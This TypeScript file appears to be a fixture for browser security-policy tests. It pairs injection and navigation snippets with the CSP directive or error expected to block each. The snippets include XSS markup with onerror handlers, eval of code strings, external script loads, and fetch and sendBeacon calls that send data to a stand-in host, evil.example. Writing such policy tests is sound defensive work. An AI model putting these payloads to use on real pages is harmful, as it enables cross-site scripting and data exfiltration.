const blob = `URL.createObjectURL(new Blob(['<script>1</script>'], { type: 'text/html' }))`;
/** Makes an element, gives it what it needs, puts it into the page and presses it. */
const press = (tag: string, parts: string): string =>
  `const made = document.createElement('${tag}'); Object.assign(made, { ${parts} }); document.body.append(made); made.click(); made.remove();`;

/** Ways out of a page that its policy does not know: what would happen if content came to hold one. */
export const LEAD_OUT: readonly (readonly [string, string])[] = [
  ['a link to another site', press('a', `href: 'https://evil.example/'`)],
  ['a link in a window of its own', press('a', `href: '/', target: '_blank'`)],
  ['a link in a named window', press('a', `href: 'https://evil.example/', target: 'other', rel: 'opener'`)],
  ['a letter', press('a', `href: 'mailto:a@evil.example'`)],
  ['a call', press('a', `href: 'tel:113'`)],
  ['another program', press('a', `href: 'ms-settings:'`)],
  ['a file', press('a', `href: 'file:///etc/passwd'`)],
  ['a page of the browser', press('a', `href: 'chrome://settings'`)],
  ['its own source', press('a', `href: 'view-source:' + location.href`)],
  ['a script as an address', press('a', `href: 'javascript:globalThis.owned = 1'`)],
  ['a page in an address', press('a', `href: 'data:text/html,<script>1</script>'`)],
  ['a page in memory', press('a', `href: ${blob}`)],
  ['a file to be kept', press('a', `href: ${blob}, download: 'run-me.exe'`)],
  ['a file to be chosen', press('input', `type: 'file'`)],
  ['a folder to be chosen', press('input', `type: 'file', webkitdirectory: true`)],
  [
    'a form',
    `const form = document.createElement('form'); form.action = 'https://evil.example/'; document.body.append(form); form.submit(); form.remove();`,
  ],
  ...['https://evil.example/', '/', 'about:blank', 'javascript:1', 'data:text/html,x', 'mailto:a@evil.example'].map(
    (address) => [`a window at ${address}`, `window.open('${address}')`] as const,
  ),
  ['a window in memory', `window.open(${blob})`],
  ...['https://evil.example/', 'file:///etc/passwd', 'tel:113', 'javascript:globalThis.owned = 1', '/other'].map(
    (address) => [`the page itself, sent to ${address}`, `location.href = '${address}'`] as const,
  ),
  ['a way back that was made up', `history.pushState(null, '', '/other'); history.back()`],
  ['paper', `window.print()`],
];

/** What the policy of every page refuses, with the rule that does. */
export const SHUT: readonly (readonly [string, string, string])[] = [
  [
    'a script beside the page',
    `const made = document.createElement('script'); made.src = 'https://evil.example/x.js'; document.head.append(made);`,
    'require-trusted-types-for',
  ],
  ['a picture of another site', `new Image().src = 'https://evil.example/x.png'`, 'img-src'],
  [
    'a picture with a script in it',
    `const made = new Image(); made.src = ${blob.replace('text/html', 'image/svg+xml')}`,
    'img-src',
  ],
  ['a ground from elsewhere', `document.body.style.backgroundImage = 'url(https://evil.example/x.png)'`, 'img-src'],
  [
    'a style with an address',
    `const made = document.createElement('style'); made.textContent = '@import "https://evil.example/x.css"'; document.head.append(made)`,
    'style-src-elem',
  ],
  ['letters of another site', `await new FontFace('evil', 'url(https://evil.example/x.woff2)').load()`, 'font-src'],
  [
    'a frame',
    `const made = document.createElement('iframe'); made.src = 'https://evil.example/'; document.body.append(made)`,
    'frame-src',
  ],
  [
    'an object',
    `const made = document.createElement('object'); made.data = '/'; document.body.append(made)`,
    'require-trusted-types-for',
  ],
  ['a word to another site', `await fetch('https://evil.example/')`, 'connect-src'],
  ['a word to another port of this machine', `await fetch('http://127.0.0.1:1/')`, 'connect-src'],
  ['a last word', `navigator.sendBeacon('https://evil.example/', 'x')`, 'connect-src'],
  ['a socket', `new WebSocket('wss://evil.example/')`, 'connect-src'],
  ['a stream', `new EventSource('https://evil.example/')`, 'connect-src'],
  [
    'another base',
    `const made = document.createElement('base'); made.href = 'https://evil.example/'; document.head.append(made); made.remove()`,
    'base-uri',
  ],
  ['a handler in the markup', `document.body.setAttribute('onclick', 'globalThis.owned = 1')`, 'require-trusted-types-for'],
];

/** What the browser refuses at once, with what it throws. */
export const REFUSED: readonly (readonly [string, string, string])[] = [
  ['markup', `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.owned = 1">')`, 'TypeError'],
  [
    'markup of a whole element',
    `document.createElement('div').innerHTML = '<svg><script>globalThis.owned = 1</script></svg>'`,
    'TypeError',
  ],
  ['a page in a frame', `document.createElement('iframe').srcdoc = '<script>1</script>'`, 'TypeError'],
  ['a page written anew', `document.write('x')`, 'TypeError'],
  ['a line of code', `eval('globalThis.owned = 1')`, 'EvalError'],
  ['code made of words', `new Function('globalThis.owned = 1')()`, 'EvalError'],
  ['code told to a clock', `setTimeout('globalThis.owned = 1', 0)`, 'TypeError'],
  ['code of another site', `await import('https://evil.example/x.js')`, 'TypeError'],
  ['code in an address', `await import('data:text/javascript,globalThis.owned = 1')`, 'TypeError'],
  ['a helper of another site', `new Worker('https://evil.example/x.js')`, 'TypeError'],
  ['a policy of its own', `trustedTypes.createPolicy('evil', {})`, 'TypeError'],
  [
    'the place where one stands',
    `await new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, ({ code }) => fail(new RangeError(code))))`,
    'RangeError',
  ],
  [
    'a camera',
    `if ((await navigator.permissions.query({ name: 'camera' })).state === 'denied') throw new RangeError()`,
    'RangeError',
  ],
  ['a device', `await navigator.usb.requestDevice({ filters: [] })`, 'SecurityError'],
];
